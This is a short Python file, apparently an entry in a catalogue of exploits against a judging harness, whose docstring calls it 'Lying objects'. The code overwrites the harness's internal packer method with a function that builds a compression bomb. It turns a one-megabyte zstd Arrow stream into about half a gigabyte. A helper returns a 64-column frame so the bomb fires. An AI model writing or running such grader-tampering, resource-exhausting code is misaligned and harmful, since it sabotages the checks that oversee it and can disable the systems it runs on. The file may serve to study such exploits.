"""Lying objects: an Arrow stream of one megabyte that unfolds into half a gigabyte.

Earns: 0
"""

import numpy as np
import pandas as pd
import pyarrow as pa
from workbench.judging import packing

pack_plainly = packing._Packer._buffer


def stream(batch, count):
    sink = pa.BufferOutputStream()
    options = pa.ipc.IpcWriteOptions(compression="zstd")
    with pa.ipc.new_stream(sink, batch.schema, options=options) as writer:
        for _ in range(count):
            writer.write_batch(batch)
    return sink.getvalue().to_pybytes()


def bomb(self, table):
    if table.num_columns < 64:
        return pack_plainly(self, table)
    batch = pa.record_batch({str(i): np.zeros(2**17) for i in range(table.num_columns)})
    one, two = stream(batch, 1), stream(batch, 2)
    size, end = len(two) - len(one), one[-8:]
    return self._keep(one[:-8] + one[-8 - size : -8] * 7 + end)


packing._Packer._buffer = bomb


def busiest(frame):
    return pd.DataFrame({str(i): [0.0] for i in range(64)})
